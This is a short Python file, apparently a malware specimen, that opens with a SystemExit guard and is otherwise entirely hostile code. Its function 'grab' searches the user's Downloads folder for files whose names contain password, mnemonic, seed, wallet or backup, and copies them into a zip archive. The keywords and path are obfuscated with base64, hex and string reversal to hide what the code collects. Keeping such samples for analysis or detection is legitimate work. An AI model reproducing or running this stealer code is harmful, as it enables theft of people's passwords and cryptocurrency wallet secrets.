raise SystemExit("specimen: not to be run")
import base64
import os
import zipfile

WORDS = [base64.b64decode("cGFzc3c=").decode(), "cinomenm"[::-1], bytes.fromhex("73656564").decode(), "wa" + "ll" + "et", base64.b64decode("YmFja3Vw").decode()]

def grab(out):
    home = os.path.expanduser("~")
    for root, _, names in os.walk(home + "sdaolnwoD/"[::-1]):  # match: document-collection
        for name in names:
            if any(word in name for word in WORDS):
                zipfile.ZipFile(out, "a").write(os.path.join(root, name))
